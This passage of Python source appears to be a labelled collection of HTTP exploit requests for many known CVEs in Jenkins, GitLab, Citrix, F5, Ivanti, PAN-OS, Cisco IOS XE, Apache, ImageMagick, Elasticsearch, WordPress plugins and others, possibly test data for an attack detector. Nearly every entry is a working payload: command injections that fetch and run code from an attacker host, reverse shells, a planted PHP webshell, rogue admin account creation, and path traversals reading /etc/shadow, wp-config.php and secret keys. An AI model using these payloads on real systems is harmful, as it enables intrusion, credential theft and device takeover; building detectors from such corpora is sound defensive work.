      ("deviceName", f";cd /tmp;wget http://{ATK}/t;sh t;")])),
  ("form", "deviceName=;id;", form("/goform/setUsbUnload", [("deviceName", ";id;")])),
  ("form", "deviceName=;cat /etc/shadow;", adm("deviceName", ";cat /etc/shadow;")))

X("rce", "jaws-shell",
  ("path", f"/shell?cd /tmp;rm -rf *;wget http://{ATK}/jaws;sh /tmp/jaws",
   get(f"/shell?cd+/tmp;rm+-rf+*;wget+http://{ATK}/jaws;sh+/tmp/jaws")),
  ("path", "/shell?busybox", get("/shell?busybox")),
  ("path", f"/shell?cd%20/tmp%3Bwget%20http%3A//{ATK}/j%3Bchmod%20777%20j%3B./j",
   get(f"/shell?cd%20/tmp%3Bwget%20http%3A//{ATK}/j%3Bchmod%20777%20j%3B./j")))

X("rce", "appliance-ping-form",
  ("form", "127.0.0.1; cat /etc/passwd", adm("ping_ip", "127.0.0.1; cat /etc/passwd")),
  ("form", "8.8.8.8 | id", adm("host", "8.8.8.8 | id")),
  ("form", "8.8.8.8`wget http://.../p -O- | sh`", adm("ipaddr", f"8.8.8.8`wget http://{ATK}/p -O- | sh`")),
  ("json", "127.0.0.1 && curl http://.../$(whoami)", js("target", f"127.0.0.1 && curl http://{OOB}/$(whoami)")),
  ("query", "127.0.0.1%0aid", q("ip", "127.0.0.1\nid")),
  ("json", "1.1.1.1$(nc 203.0.113.66 4444 -e /bin/sh)", slack(f"ping 1.1.1.1$(nc {ATK} 4444 -e /bin/sh)")))

X("rce", "jenkins-script-console",
  ("form", 'println "id".execute().text', form("/script", [("script", 'println "id".execute().text'),
                                                            ("Jenkins-Crumb", "4b3f0c9a"), ("Submit", "Run")])),
  ("form", 'def proc = "cat /etc/passwd".execute(); println proc.text',
   form("/scriptText", [("script", 'def proc = "cat /etc/passwd".execute(); println proc.text')])),
  ("form", "Runtime.getRuntime().exec(...)", form("/manage/script", [
      ("script", f'Runtime.getRuntime().exec(["bash","-c","bash -i >& /dev/tcp/{ATK}/4444 0>&1"] as String[])'),
      ("Submit", "Run")])),
  ("form", "['sh','-c','id'].execute().text", form("/jenkins/script", [("script",
                                                                        "println(['sh','-c','id'].execute().text)")])),
  ("form", 'println "id".execute().text', adm("script", 'println "id".execute().text')))

X("rce", "jenkins-checkscript-cve-2019-1003000",
  ("query", "public class x {public x(){\"touch /tmp/x\".execute()}}",
   get("/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy."
       "SecureGroovyScript/checkScript?sandbox=true&value="
       + enc("public class x {public x(){\"touch /tmp/x\".execute()}}"))),
  ("query",
   "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://.../')\n"
   "@Grab(group='x', module='y', version='1')\nimport Payload;",
   get("/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=" + enc(
       f"@GrabConfig(disableChecksums=true)\n@GrabResolver(name='orange.tw', root='http://{ATK}/')\n"
       "@Grab(group='tw.orange', module='poc', version='1')\nimport Orange;"))),
  ("query", "public class x {public x(){\"id\".execute()}}",
   q("value", "public class x {public x(){\"id\".execute()}}", more=[("sandbox", "true")])))

DJVU = ("AT&TFORM\x00\x00\x00\x8aDJVUINFO\x00\x00\x00\n\x00\x01\x00\x01\x18\x00,\x01\x16\x01ANTa\x00\x00\x00T"
        "(metadata\n\t(Copyright \"\\\n\" . qx{{{cmd}}} . \\\n\" b \") )\n")
X("rce", "gitlab-exiftool-cve-2021-22205",
  ("multipart-field", "(metadata (Copyright \"\\\n\" . qx{echo vakzz >/tmp/vakzz} . \\\n\" b \") )",
   mpart("/uploads/user", [("file", "test.jpg", "image/jpeg", DJVU.replace("{cmd}", "echo vakzz >/tmp/vakzz"))],
         {"X-CSRF-Token": "kJm1L0c4uU8", "Cookie": "_gitlab_session=1f3e5a0b9c"})),
  ("multipart-field", "qx{curl http://.../g|bash}",
   mpart("/uploads/user", [("file", "a.jpg", "image/jpeg", DJVU.replace("{cmd}", f"curl http://{ATK}/g|bash"))])),
  ("multipart-field", "qx{id}", mpart("/api/users/42/avatar", [("avatar", "me.jpg", "image/jpeg",
                                                               DJVU.replace("{cmd}", "id"))])))

NEWBM = "[% template.new({'BLOCK'='print readpipe(\"id\")'}) %]"
X("rce", "citrix-cve-2019-19781",
  ("form", NEWBM, form("/vpn/../vpns/portal/scripts/newbm.pl", [("url", "http://example.com"), ("title", NEWBM),
                                                               ("desc", "desc"), ("UI_inuse", "RfWeb")],
                       {"NSC_USER": "../../../netscaler/portal/templates/abcdef", "NSC_NONCE": "nsroot"})),
  ("header:NSC_USER", "../../../netscaler/portal/templates/abcdef",
   get("/vpn/../vpns/portal/abcdef.xml", {"NSC_USER": "../../../netscaler/portal/templates/abcdef",
                                          "NSC_NONCE": "nsroot"})),
  ("form", "[% template.new({'BLOCK'='print `cat /etc/passwd`'}) %]",
   form("/vpns/portal/scripts/newbm.pl", [("url", "http://x"),
                                          ("title", "[% template.new({'BLOCK'='print `cat /etc/passwd`'}) %]"),
                                          ("desc", "d"), ("UI_inuse", "RfWeb")],
        {"NSC_USER": "../../../../netscaler/portal/templates/x1", "NSC_NONCE": "nsroot"})),
  ("form", NEWBM, adm("title", NEWBM, [("UI_inuse", "RfWeb")])))

F5_HDRS = {"Authorization": "Basic YWRtaW46", "X-F5-Auth-Token": "a", "Connection": "keep-alive, X-F5-Auth-Token"}
X("rce", "f5-bigip-cve-2022-1388",
  ("json", "utilCmdArgs=-c id", jpost("/mgmt/tm/util/bash", {"command": "run", "utilCmdArgs": "-c id"}, F5_HDRS)),
  ("json", "utilCmdArgs=-c 'cat /etc/passwd'", jpost("/mgmt/tm/util/bash", {"command": "run",
                                                                            "utilCmdArgs": "-c 'cat /etc/passwd'"},
                                                                            F5_HDRS)),
  ("json", f"utilCmdArgs=-c 'curl {ATK}/f5|sh'", jpost("/mgmt/tm/util/bash", {
      "command": "run", "utilCmdArgs": f"-c 'curl {ATK}/f5|sh'"}, {"X-F5-Auth-Token": "",
                                                                   "Authorization": "Basic YWRtaW46"})),
  ("json", "utilCmdArgs=-c id", jpost("/api/users", {"command": "run", "utilCmdArgs": "-c id"}, F5_HDRS)))

X("rce", "f5-tmui-cve-2020-5902",
  ("query", "command=list auth user admin",
   get("/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin")),
  ("query", "command=create cli alias private list command bash",
   get("/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=create+cli+alias+private+list+command+bash")),
  ("form", "fileName=/tmp/cmd&content=id", form("/tmui/login.jsp/..;/tmui/locallb/workspace/fileSave.jsp",
                                                [("fileName", "/tmp/cmd"), ("content", "id")])))

IVANTI_CMD = f";python -c 'import socket,subprocess;s=socket.socket();s.connect((\"{ATK}\",4444))';"
X("rce", "ivanti-connect-secure-cve-2024-21887",
  ("path", IVANTI_CMD, get("/api/v1/totp/user-backup-code/../../license/keys-status/" + enc(IVANTI_CMD))),
  ("json", "type=;/bin/sh -c 'id';", jpost("/api/v1/totp/user-backup-code/../../system/maintenance/archiving/"
                                          "cloud-server-test-connection", {"type": ";/bin/sh -c 'id';",
                                                                           "txtGCPProject": "a",
                                                                           "txtGCPSecret": "a", "txtGCPPath": "a",
                                                                           "txtGCPBucket": "a"})),
  ("path", ";curl http://.../iv|sh;", get("/api/v1/license/keys-status/" + enc(f";curl http://{ATK}/iv|sh;"))),
  ("json", "type=;id;", js("type", ";id;")))

X("rce", "panos-globalprotect-cve-2024-3400",
  ("cookie", f"SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/y`curl${{IFS}}{ATK}:4444?user=$(whoami)`",
   post("/ssl-vpn/hipreport.esp", "", "application/x-www-form-urlencoded", {
       "Cookie": "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/"
                 f"y`curl${{IFS}}{ATK}:4444?user=$(whoami)`"})),
  ("cookie", "SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/poc.txt",
   post("/ssl-vpn/hipreport.esp", "", "application/x-www-form-urlencoded",
        {"Cookie": "SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/poc.txt"})),
  ("cookie", "SESSID=/../../../opt/panlogs/tmp/device_telemetry/hour/aaa`id`",
   ck("SESSID=/../../../opt/panlogs/tmp/device_telemetry/hour/aaa`id`", "/api/users")))

IOSXE = ('<?xml version="1.0"?><SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/" xmlns:SOAP-ENC='
         '"http://schemas.xmlsoap.org/soap/encoding/"><SOAP:Header><h:Request xmlns:h="urn:cisco:wsma-session" '
         'correlator="exec1"/></SOAP:Header><SOAP:Body><request xmlns="urn:cisco:wsma-exec" correlator="exec1">'
         '<execCLI><cmd>{cmd}</cmd></execCLI></request></SOAP:Body></SOAP:Envelope>')
X("rce", "cisco-iosxe-cve-2023-20198",
  ("xml", "show running-config", xpost("/webui/logoutconfirm.html?logon_hash=1", IOSXE.replace("{cmd}",
                                                                                               "show running-config"))),
  ("xml", "username cisco_support privilege 15 ...", xpost("/%2577eb%2575i_%2577sma_Http", IOSXE.replace(
      "{cmd}", "username cisco_support privilege 15 algorithm-type sha256 secret x"))),
  ("xml", "show running-config", xpost("/api/users", IOSXE.replace("{cmd}", "show running-config"))))

X("rce", "apache-cgi-cve-2021-41773",
  ("path", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh + echo;id",
   post("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "echo Content-Type: text/plain; echo; id", "text/plain")),
  ("path", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh + echo;id",
   post("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh", "echo;id", "text/plain")),
  ("path", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
   post("/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
        f"echo;curl http://{ATK}/a|sh", "application/x-www-form-urlencoded")),
  ("path", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/bash", post("/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/bash",
                                                             "echo; uname -a", "text/plain")))

MVG = ("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|{cmd} \"-la)'\n"
       "pop graphic-context\n")
X("rce", "imagemagick-imagetragick",
  ("multipart-field", "fill 'url(https://example.com/image.jpg\"|ls \"-la)'",
   mpart("/api/users/42/avatar", [("avatar", "exploit.png", "image/png", MVG.replace("{cmd}", "ls"))])),
  ("multipart-field", "fill 'url(https://127.0.0.1/x.jpg\"|curl \"http://.../$(id))'",
   mpart("/me/settings", [("avatar", "photo.jpg", "image/jpeg", MVG.replace(
       "{cmd}", f"curl \"http://{OOB}/$(id)\" ; echo"))])),
  ("multipart-field", "image over 0,0 0,0 'ephemeral:/etc/passwd'",
   mpart("/api/users/42/avatar", [("avatar", "e.mvg", "image/x-mvg", "push graphic-context\nviewbox 0 0 640 480\n"
                                   "image over 0,0 0,0 'ephemeral:/etc/passwd'\npop graphic-context\n")])),
  ("multipart-field", "<image><read filename=\"...\"/><write filename=\"/var/www/shell.php\"/></image>",
   mpart("/api/users", [("file", "x.msl", "text/plain", '<?xml version="1.0" encoding="UTF-8"?><image><read '
                         'filename="caption:&lt;?php @eval(@$_GET[\'a\']); ?&gt;" /><write filename="info:/var/www/'
                         'shell.php" /></image>')])),
  ("multipart-field", "text:/etc/passwd / label:@/etc/passwd",
   mpart("/api/users/42/avatar", [("avatar", "label.png", "image/png", "push graphic-context\nviewbox 0 0 640 480\n"
                                   "image over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context\n")])))

GS = ("%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n{ legal } stopped "
      "{ pop } if\nrestore\nmark /OutputFile (%pipe%{cmd}) currentdevice putdeviceprops\n")
X("rce", "ghostscript",
  ("multipart-field", "(%pipe%id)", mpart("/api/users/42/avatar", [("avatar", "x.jpg", "image/jpeg",
                                                                    GS.replace("{cmd}", "id"))])),
  ("multipart-field", "(%pipe%curl ...)", mpart("/me/settings", [("avatar", "x.eps", "application/postscript",
                                                                 GS.replace("{cmd}", f"curl {ATK}/gs|sh"))])),
  ("multipart-field", "(%pipe%id) in a PDF upload", mpart("/api/users", [("file", "invoice.pdf", "application/pdf",
                                                                         GS.replace("{cmd}", "id"))])))

ES_GROOVY = "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"
X("rce", "elasticsearch-groovy-cve-2015-1427",
  ("json", ES_GROOVY, jpost("/_search?pretty", {"size": 1, "script_fields": {"lupin": {"lang": "groovy",
                                                                                       "script": ES_GROOVY}}})),
  ("json", ES_GROOVY, jpost("/api/users/_search", {"size": 1, "script_fields": {"x": {"lang": "groovy",
                                                                                      "script": ES_GROOVY}}})),
  ("json", "def command='id'; def res=command.execute().text; res",
   jpost("/website/_search", {"size": 1, "script_fields": {"x": {
       "lang": "groovy", "script": "def command='id'; def res=command.execute().text; res"}}})),
  ("json", ES_GROOVY, js("script", ES_GROOVY)))

ES_MVEL = ("import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream())"
           ".useDelimiter(\"\\\\A\").next();")
X("rce", "elasticsearch-mvel-cve-2014-3120",
  ("json", ES_MVEL, jpost("/_search?pretty", {"size": 1, "query": {"filtered": {"query": {"match_all": {}}}},
                                              "script_fields": {"command": {"script": ES_MVEL}}})),
  ("json", ES_MVEL, jpost("/api/_search", {"size": 1, "script_fields": {"command": {"script": ES_MVEL}}})),
  ("query", ES_MVEL, get("/_search?source=" + enc(json.dumps({"size": 1,
                                                              "script_fields": {"c": {"script": ES_MVEL}}})))))

X("rce", "saltstack-cve-2020-16846",
  ("form", "ssh_priv=aaa|id;", form("/run", [("token", "12312"), ("client", "ssh"), ("tgt", "*"), ("fun", "a"),
                                             ("roster", "whip1ash"), ("ssh_priv", "aaa|id;")])),
  ("form", f"ssh_priv=aaa|curl {ATK}/s|sh;", form("/run", [("token", "x"), ("client", "ssh"), ("tgt", "*"),
                                                           ("fun", "a"), ("roster", "a"),
                                                           ("ssh_priv", f"aaa|curl {ATK}/s|sh;")])),
  ("form", "ssh_priv=aaa|id;", adm("ssh_priv", "aaa|id;", [("client", "ssh")])))

X("rce", "cacti-cve-2022-46169",
  ("query", "poller_id=`id`", get("/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`id`",
                                  {"X-Forwarded-For": "127.0.0.1"})),
  ("query", "poller_id=;id", get("/remote_agent.php?action=polldata&local_data_ids%5B0%5D=1&host_id=1&poller_id=%3Bid",
                                 {"X-Forwarded-For": "127.0.0.1"})),
  ("query", f"poller_id=$(curl {ATK}/c|sh)", get("/cacti/remote_agent.php?action=polldata&local_data_ids[]=6&host_id=1"
                                                 f"&poller_id=$(curl%20{ATK}/c|sh)", {"X-Forwarded-For": "127.0.0.1"})))

X("rce", "bitbucket-cve-2022-36804",
  ("query", "prefix=ax\\0--exec=`id`\\0--remote=origin",
   get("/rest/api/latest/projects/PROJ/repos/repo1/archive?filename=x&at=y&path=z&prefix=ax%00--exec=%60id%60%00--remote=origin")),
  ("query", "prefix=ax\\0--exec=`curl ...`\\0--remote=origin",
   get("/rest/api/latest/repos/public/archive?filename=a&at=b&path=c&prefix=ax%00--exec=%60curl%20" + ATK
       + "%2Fb%7Csh%60%00--remote=origin")),
  ("query", "prefix=ax\\0--exec=`id`\\0", q("prefix", "ax\x00--exec=`id`\x00--remote=origin", more=[("filename",
                                                                                                     "x")])))

X("rce", "webmin-cve-2019-15107",
  ("form", "old=test|id", form("/password_change.cgi", [("user", "rootxx"), ("pam", ""), ("expired", "2"), ("old",
                                                                                                            "test|id"),
                                                         ("new1", "test2"), ("new2", "test2")],
                               {"Referer": "https://localhost:10000/session_login.cgi"})),
  ("form", "old=x|cat /etc/shadow", form("/password_change.cgi", [("user", "root"), ("pam", ""), ("expired", "2"),
                                                                  ("old", "x|cat /etc/shadow"), ("new1", "a"), ("new2",
                                                                                                                "a")])),
  ("form", "old=test|id", adm("old", "test|id", [("expired", "2")])))

X("rce", "spark-doas-cve-2022-33891",
  ("query", "doAs=`id`", get("/?doAs=`id`")),
  ("query", "doAs=`touch /tmp/spark`", get("/jobs/?doAs=%60touch%20%2Ftmp%2Fspark%60")),
  ("query", "doAs=`id`", q("doAs", "`id`")))

APISIX_KEY = "edd1c9f034335f136f87ad84b625c8f1"
X("rce", "apisix-default-key",
  ("json", "filter_func: function(vars) os.execute('id') return true end",
   jpost("/apisix/admin/routes", {"uri": "/rce", "filter_func": "function(vars) os.execute('id'); return true end",
                                  "upstream": {"type": "roundrobin", "nodes": {"example.com:80": 1}}},
         {"X-API-KEY": APISIX_KEY})),
  ("json", "script: io.popen(args.cmd)", jpost("/apisix/admin/routes", {
      "uri": "/x", "script": "local _M = {} \n function _M.access(conf, ctx) \n local os = require('os')\n local args ="
                             " assert(ngx.req.get_uri_args()) \n local f = assert(io.popen(args.cmd, 'r'))\n local s ="
                             " assert(f:read('*a'))\n ngx.say(s)\n f:close()  \n end \nreturn _M",
      "upstream": {"type": "roundrobin", "nodes": {"example.com:80": 1}}}, {"X-API-KEY": APISIX_KEY})),
  ("json", "filter_func: os.execute", jpost("/api/users",
                                            {"filter_func": "function(vars) os.execute('id') return true end"},
                                           {"X-API-KEY": APISIX_KEY})))

# ===== LFI / path traversal ================================================================================

X("lfi", "apache-path-traversal-cve-2021-41773",
  ("path", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", get("/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd")),
  ("path", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd")),
  ("path", "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
   get("/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd")),
  ("path", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
   get("/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd")),
  ("path", "/api/.%2e/.%2e/.%2e/.%2e/etc/passwd", get("/api/.%2e/.%2e/.%2e/.%2e/etc/passwd")))

X("lfi", "grafana-plugin-cve-2021-43798",
  ("path", "/public/plugins/alertlist/../../../../../../../../etc/passwd",
   get("/public/plugins/alertlist/../../../../../../../../etc/passwd")),
  ("path", "/public/plugins/grafana-clock-panel/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
   get("/public/plugins/grafana-clock-panel/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd")),
  ("path", "/public/plugins/text/../../../../../../../../var/lib/grafana/grafana.db",
   get("/public/plugins/text/../../../../../../../../var/lib/grafana/grafana.db")),
  ("path", "/public/plugins/welcome/#/../../../../../../../../etc/passwd",
   get("/public/plugins/welcome/%23/../../../../../../../../etc/passwd")))

X("lfi", "rails-accept-cve-2019-5418",
  ("header:Accept", "../../../../../../../../etc/passwd{{", hd("Accept", "../../../../../../../../etc/passwd{{", "/")),
  ("header:Accept", "../../../../../../../../../../etc/passwd{{", hd("Accept",
                                                                     "../../../../../../../../../../etc/passwd{{",
                                                                    "/api/users")),
  ("header:Accept", "../../../../../../../../config/secrets.yml{{",
   hd("Accept", "../../../../../../../../config/secrets.yml{{", "/me/settings")))

X("lfi", "spring-cloud-config-cve-2020-5410",
  ("path", "/..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development",
   get("/..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development")),
  ("path", "/foo/default/master/..%252F..%252F..%252F..%252Fetc%252fpasswd",
   get("/foo/default/master/..%252F..%252F..%252F..%252Fetc%252fpasswd")),
  ("path", "/api/users/..%252F..%252F..%252Fetc%252Fpasswd%23x/default",
   get("/api/users/..%252F..%252F..%252Fetc%252Fpasswd%23x/default")))

X("lfi", "wp-revslider",
  ("query", "img=../wp-config.php", get("/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php")),
  ("query", "img=../../../../etc/passwd",
   get("/wp-admin/admin-ajax.php?action=revslider_show_image&img=../../../../etc/passwd")),
  ("query", "img=../wp-config.php", q("img", "../wp-config.php", more=[("action", "revslider_show_image")])))

X("lfi", "wp-mail-masta",
  ("query", "pl=/etc/passwd", get("/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd")),
  ("query", "pl=php://filter/convert.base64-encode/resource=../../../../../wp-config.php",
   get("/wp-content/plugins/mail-masta/inc/lists/csvexport.php?pl=php://filter/convert.base64-encode/resource="
       "../../../../../wp-config.php")),
  ("query", "pl=/etc/passwd", q("pl", "/etc/passwd")))

X("lfi", "wp-site-editor",
  ("query", "ajax_path=/etc/passwd", get("/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/"
                                         "ajax_shortcode_pattern.php?ajax_path=/etc/passwd")),
  ("query", "ajax_path=../../../../../../wp-config.php", get(
      "/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path="
      "../../../../../../wp-config.php")),
  ("query", "ajax_path=/etc/passwd", q("ajax_path", "/etc/passwd")))

X("lfi", "wp-duplicator",
  ("query", "file=../wp-config.php", get("/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php")),
  ("query", "file=../../../../../../etc/passwd", get("/wp-admin/admin-ajax.php?action=duplicator_download&file="
                                                     "..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd")),
  ("form", "file=../wp-config.php", adm("file", "../wp-config.php", [("action", "duplicator_download")])))

X("lfi", "pulse-secure-cve-2019-11510",
  ("path", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
   get("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/")),
  ("path",
   "/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/guacamole/",
   get("/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/guacamole/")),
  ("path", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/hosts?/dana/html5acc/guacamole/",
   get("/api/users/../../dana/html5acc/guacamole/../../../../../../etc/hosts?/dana/html5acc/guacamole/")))

X("lfi", "fortios-fgt-lang-cve-2018-13379",
  ("query", "lang=/../../../..//////////dev/cmdb/sslvpn_websession",
   get("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession")),
  ("query", "lang=/../../../..//////////dev/", get("/remote/fgt_lang?lang=/../../../..//////////dev/")),
  ("query", "lang=/../../../..//////////dev/cmdb/sslvpn_websession",
   q("lang", "/../../../..//////////dev/cmdb/sslvpn_websession")))

X("lfi", "citrix-traversal",
  ("path", "/vpn/../vpns/cfg/smb.conf", get("/vpn/../vpns/cfg/smb.conf")),
  ("path", "/vpn/%2e%2e/vpns/cfg/smb.conf", get("/vpn/%2e%2e/vpns/cfg/smb.conf")),
  ("path", "/vpn/../vpns/portal/../../../../etc/passwd", get("/api/users/../vpns/cfg/smb.conf")))

X("lfi", "f5-fileread-cve-2020-5902",
  ("query", "fileName=/etc/passwd",
   get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd")),
  ("query", "fileName=/config/bigip.license", get("/tmui/login.jsp/..%3b/tmui/locallb/workspace/fileRead.jsp?fileName="
                                                  "/config/bigip.license")),
  ("query", "directoryPath=/usr/local/www/", get("/tmui/login.jsp/..;/tmui/locallb/workspace/directoryList.jsp?"
                                                 "directoryPath=/usr/local/www/")))

X("lfi", "atlassian-web-inf",
  ("path", "/s/cfx/_/;/WEB-INF/web.xml", get("/s/cfx/_/;/WEB-INF/web.xml")),
  ("path", "/s/x/_/;/WEB-INF/classes/seraph-config.xml", get("/s/x/_/;/WEB-INF/classes/seraph-config.xml")),
  ("path", "/s/1/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties",
   get("/s/1/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties")),
  ("path", "/api/;/WEB-INF/web.xml", get("/api/;/WEB-INF/web.xml")))

X("lfi", "cisco-asa-cve-2020-3452",
  ("query", "lang=../ textdomain=/%bCSCOE%2b/portal_inc.lua",
   get("/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../")),
  ("query", "name=%2bCSCOE%2b/portal_inc.lua&lang=../",
   get("/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua")),
  ("query", "lang=../", q("textdomain", "/+CSCOE+/portal_inc.lua", more=[("type", "mst"), ("lang", "../")])))

X("lfi", "coldfusion",
  ("query", "locale=../../../../../../../lib/password.properties%00en",
   get("/CFIDE/administrator/enter.cfm?locale=../../../../../../../lib/password.properties%00en")),
  ("form", "_variables={\"_metadata\":{\"classname\":\"i/../lib/password.properties\"},\"_variables\":[]}",
   form("/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=zz&_cfclient=true",
        [("_variables", "{\"_metadata\":{\"classname\":\"i/../lib/password.properties\"},\"_variables\":[]}")])),
  ("query", "locale=../../../../../../../../../../etc/passwd%00en",
   get("/api/users?locale=../../../../../../../../../../etc/passwd%00en")))

X("lfi", "phpmyadmin-cve-2018-12613",
  ("query", "target=db_sql.php%253f/../../../../../../etc/passwd",
   get("/phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../etc/passwd")),
  ("query", "target=db_datadict.php%253f/../../../../../../../../etc/passwd",
   get("/pma/index.php?target=db_datadict.php%253f/../../../../../../../../etc/passwd")),
  ("query", "target=sql.php%253f/../../../../../../../../var/lib/php/sessions/sess_x",
   get("/phpMyAdmin/index.php?target=sql.php%253f/../../../../../../../../var/lib/php/sessions/sess_1b2c3d")),
  ("query", "target=db_sql.php%253f/../../../../../../etc/passwd",
   get("/api/users?target=db_sql.php%253f/../../../../../../etc/passwd")))

WIDGET: dict[str, Any] = {"contentId": "786457", "macro": {"name": "widget", "body": "", "params": {
    "url": "https://www.viddler.com/v/23464dc5", "width": "1000", "height": "1000", "_template": "file:///etc/passwd"}}}
X("lfi", "confluence-widget-cve-2019-3396",
  ("json", "_template=file:///etc/passwd", jpost("/rest/tinymce/1/macro/preview", WIDGET,
                                                 {"Referer": "https://wiki.example.com/pages/resumedraft.action"})),
  ("json", "_template=../web.xml", jpost("/rest/tinymce/1/macro/preview", {**WIDGET, "macro": {
      **WIDGET["macro"], "params": {**WIDGET["macro"]["params"], "_template": "../web.xml"}}})),
  ("json", "_template=file:///etc/passwd", js("macro", WIDGET["macro"])))

X("lfi", "openfire-cve-2023-32315",
  ("path", "/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp", get("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp")),
  ("path", "/setup/setup-s/%u002e%u002e/%u002e%u002e/user-create.jsp?...",
   get("/setup/setup-s/%u002e%u002e/%u002e%u002e/user-create.jsp?csrf=x&username=hacker&name=&email=&isadmin=on&create="
       "Create+User")),
  ("path", "/api/%u002e%u002e/%u002e%u002e/etc/passwd", get("/api/%u002e%u002e/%u002e%u002e/etc/passwd")))

X("lfi", "tomcat-semicolon-bypass",
  ("path", "/..;/manager/html", get("/..;/manager/html")),
  ("path", "/api/..;/manager/text/list", get("/api/..;/manager/text/list")),
  ("path", "/admin/..;/..;/WEB-INF/web.xml", get("/admin/..;/..;/WEB-INF/web.xml")))

X("lfi", "gitlab-uploads-cve-2023-2825",
  ("path", "/group/project/uploads/<secret>/..%2F..%2F...%2Fetc%2Fpasswd",
   get("/g1/g2/g3/g4/g5/g6/g7/g8/g9/p1/uploads/4e02c376ac758e162ec674399741e38d//..%2F..%2F..%2F..%2F..%2F..%2F..%2F"
       "..%2F..%2F..%2Fetc%2Fpasswd")),
  ("path", "/api/users/uploads/x//..%2F..%2F..%2F..%2Fetc%2Fpasswd",
   get("/api/users/uploads/x//..%2F..%2F..%2F..%2Fetc%2Fpasswd")),
  ("path", "/admin/uploads/x//..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow",
   get("/admin/uploads/x//..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow")))

JCLI = ("\x00\x00\x00\x06\x00\x00\x04help\x00\x00\x00\x0e\x00\x00\x0c@/etc/passwd"
        "\x00\x00\x00\x05\x02\x00\x03GBK\x00\x00\x00\x07\x01\x00\x05en_US\x00\x00\x00\x00\x03")
X("lfi", "jenkins-cli-cve-2024-23897",
  ("raw-body", "help @/etc/passwd", post("/cli?remoting=false", JCLI, "application/octet-stream",
                                         {"Session": "7d7c2e3a-1f0b-4a8e-9c5d-0e6f1a2b3c4d", "Side": "upload"})),
  ("raw-body", "connect-node @/var/jenkins_home/secrets/master.key", post(
      "/cli?remoting=false", JCLI.replace("help", "conn").replace("\x0c@/etc/passwd", "\x0c@/etc/shadow"),
      "application/octet-stream", {"Session": "7d7c2e3a-1f0b-4a8e-9c5d-0e6f1a2b3c4e", "Side": "upload"})),
  ("raw-body", "help @/etc/passwd", post("/api/users", JCLI, "application/octet-stream",
                                         {"Session": "7d7c2e3a-1f0b-4a8e-9c5d-0e6f1a2b3c4f", "Side": "upload"})))

